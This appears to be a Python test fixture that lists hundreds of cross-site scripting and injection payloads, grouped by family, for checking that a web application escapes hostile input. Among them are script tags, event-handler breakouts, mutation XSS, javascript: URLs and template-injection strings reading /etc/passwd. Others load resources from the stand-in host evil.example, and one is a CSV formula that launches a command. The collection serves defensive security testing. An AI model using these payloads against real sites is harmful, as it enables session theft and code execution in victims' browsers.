"""What people write who want a browser to do something for them: by family, each another attempt.

Whatever runs calls `alert`, which a watched browser reports, or asks for something of `evil.example`, which is nobody's
(RFC 2606). Beside these stand the strings of `tests.hostile`, made for every surface.
"""

# ruff: noqa: E501
import itertools

from tests.hostile.strings import FAMILIES as EVERYWHERE

_HANDLERS = tuple(
    f"on{event}"
    for event in [
        "click",
        "focus",
        "mouseover",
        "pointerenter",
        "animationstart",
        "toggle",
        "beforetoggle",
        "load",
        "error",
    ]
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "scripts": (
        *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\x20type=module>alert(1)</script>"),
        *("<script>alert(1)//", "<<script>alert(1)//<</script>", "<script/random>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        *("<script>alert`1`</script>", "<script>\u2028alert(1)</script>", "<script nonce=''>alert(1)</script>", "<script src='data:text/javascript,alert(1)'></script>"),
        *("\u00bcscript\u00bealert(1)\u00bc/script\u00be", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E"),
    ),
    "broken out of": (
        *("</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>"),
        *("</noscript><script>alert(1)</script>", "</template><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>"),
        *("</select><img src=x onerror=alert(1)>", "</option></select><script>alert(1)</script>", "</svg><script>alert(1)</script>", "</td></table><script>alert(1)</script>"),
        *("</button><iframe srcdoc='<script>parent.alert(1)</script>'>", "</form><form action=//evil.example><button autofocus>"),
    ),
    "attributes": (
        *(f'" {name}=alert(1) x="' for name in _HANDLERS),
        *(f"' {name}='alert(1)" for name in _HANDLERS[:4]),
        *('" autofocus tabindex=0 onfocus=alert(1) x="', '"><script>alert(1)</script>', "'><script>alert(1)</script>", "` onmouseover=alert(1) x=`"),
        *('" style="animation-name:x" onanimationstart="alert(1)', '" style="position:fixed;inset:0" onmouseover="alert(1)', "x onerror=alert(1)", '"/onfocus=alert(1)/autofocus="'),
        *('" hx-get="//evil.example/x" hx-trigger="load" x="', '" hx-on:click="alert(1)" x="', '" hx-on::load="alert(1)" x="', '" hx-vals="js:{a:alert(1)}" hx-post="/" hx-trigger="load" x="'),
        *('" hx-sse:connect="//evil.example/s" x="', '" data-hx-get="//evil.example" data-hx-trigger="load" x="', '" data-series="[1]" x="', '" formaction="javascript:alert(1)" x="'),
    ),
    "elements": (
        *("<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=//evil.example/p.png>", "<img srcset=//evil.example/p.png>", "<image src=x onerror=alert(1)>"),
        *("<iframe src=//evil.example>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=javascript:alert(1)>", "<object data=//evil.example>", "<embed src=//evil.example>"),
        *("<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)>"),
        *("<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<dialog open onclose=alert(1)>", "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>"),
        *("<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>", "<link rel=stylesheet href=//evil.example/x.css>"),
        *("<link rel=prefetch href=//evil.example>", "<form action=//evil.example><input name=p>", "<div hx-get=//evil.example hx-trigger=load>", "<div hx-on:htmx:load=alert(1)>", "<div data-hx-trigger=load data-hx-get=//evil.example>"),
        *("<table background=//evil.example>", "<a href=javascript:alert(1) autofocus>x", "<isindex action=javascript:alert(1)>", "<portal src=//evil.example>", "<fencedframe>", "<xss id=x tabindex=1 onfocus=alert(1)>"),
        *("<template shadowrootmode=open><script>alert(1)</script></template>", "<slot name=x onslotchange=alert(1)>", "<search hx-ws:connect=//evil.example>", "<form id=x></form><button form=x formaction=//evil.example>"),
    ),
    "drawings and mathematics": (
        *("<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>"),
        *("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>#x'>"),
        *("<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg><image href=//evil.example/x onerror=alert(1)>", "<svg><style>@import '//evil.example';</style>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>"),
        *("<math><mtext><script>alert(1)</script></mtext></math>", "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x"),
    ),
    "mutations": (
        *("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
        *("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">", "<plaintext><script>alert(1)</script>"),
        *("&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;svg onload=alert(1)&#x3e;", "&lt/script&gt<img src=x onerror=alert(1)>"),
        *("\ufeff<script>alert(1)</script>", "<\u0000script>alert(1)</script>", "<s\u0000cript>alert(1)</script>", "<img src=x onerror\u0000=alert(1)>", "<img src=x on\u200berror=alert(1)>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ),
    "addresses": (
        *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "\u00a0javascript:alert(1)", "javascript&colon;alert(1)"),
        *("javascript://social.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:alert(1)", "blob:http://127.0.0.1/x", "filesystem:http://127.0.0.1/x"),
        *("//evil.example/", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https:/\\evil.example", "http://127.0.0.1@evil.example/", "https://social.example\" onclick=\"alert(1)", "https://social.example/'><script>alert(1)</script>"),
        *("https://evil.example/\r\nSet-Cookie: a=b", "view-source:javascript:alert(1)", "about:blank#<script>alert(1)</script>", "intent://x#Intent;scheme=javascript;end", "https://social.example/\u202egnp.exe"),
    ),
    "style": (
        *("<style>@import url(//evil.example/x.css);</style>", "<style>*{background:url(//evil.example)}</style>", "<p style=background:url(//evil.example)>", "<p style='animation:x' onanimationend=alert(1)>"),
        *("}*{background:url(//evil.example)}", "red;background:url(//evil.example)", "expression(alert(1))", "url(javascript:alert(1))", "</style><style>body{display:none}</style>", "\\3c script\\3e", "--x:url(//evil.example)"),
    ),
    "data in the page": (
        *('"}</script><script>alert(1)</script>', '"]}\'><script>alert(1)</script>', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "\\\"><script>alert(1)</script>", '","__proto__":{"x":"alert(1)"},"y":"', "__proto__", "constructor", "toString"),
        *("';alert(1);//", '";alert(1);//', "\\';alert(1);//", "`${alert(1)}`", "${alert(1)}", "</script/x><script>alert(1)</script>", "<!--<script>", "<!--<script></script><script>alert(1)</script>", "\u2028alert(1)\u2029", "*/alert(1)/*", "\nalert(1)\n"),
    ),
    "templates": (
        *("{{ 7*7 }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}", "{{ config }}", "{{ request }}", "{{ self._TemplateReference__context }}", "{%- raw -%}", "{# gone #}", "{{ words|safe }}"),
        *("{{constructor.constructor('alert(1)')()}}", "[[${alert(1)}]]", "#{alert(1)}", "<%= alert(1) %>", "{{= alert(1) }}", "{brand}", "%(brand)s", "{0.__class__}"),
    ),
    "events": (
        *("x\n\ndata: <script>alert(1)</script>\n\n", "x\r\n\r\nevent: now\r\ndata: <img src=x onerror=alert(1)>\r\n\r\n", "x\rdata: <script>alert(1)</script>\r\r", "\nid: 9\nretry: 1\n\n", "\nevent: close\ndata: x\n\n"),
        *("x\u2028data: y", "x\x85data: y", "x\x0bdata: y", "x\x00\n\ndata: z\n\n", "<hx-partial hx-target='body'><script>alert(1)</script></hx-partial>", "<partial hx-target=body>owned</partial>", "<div hx-swap-oob='outerHTML:body'>owned</div>", "<title>owned</title>"),
    ),
    "names of things": (
        *("main", "nav", "cookie", "body", "forms", "alert", "<a id=htmx>", "<form name=body>", "<img name=getElementById>", "<a id=console name=console href=javascript:alert(1)>", "../../sign-out", "%2e%2e%2f", "a/b?c#d", "..;/", "'", '"', "&", "<", ">"),
    ),
    "tables": ("=1+1", "=HYPERLINK(\"//evil.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "a\",\"b", "a;b"),
    "what reorders and hides": (
        *("\u202e<script>alert(1)</script>\u202c", "pay\u202epal", "\u2066\u202e\u2069" * 9, "e" + "\u0301" * 300, "a\u200bb\u200dc", "\u061cx", "x" * 5_000, "W" * 900, "\n" * 500 + "x", "🔴" * 900, "مرحبا <b>بالعالم</b>", "שלום <script>alert(1)</script>"),
    ),
}  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        itertools.chain(
            itertools.chain.from_iterable(FAMILIES.values()),
            *(EVERYWHERE[name] for name in ("HTML", "templates", "JSON and logs", "letters")),
        )
    )
)
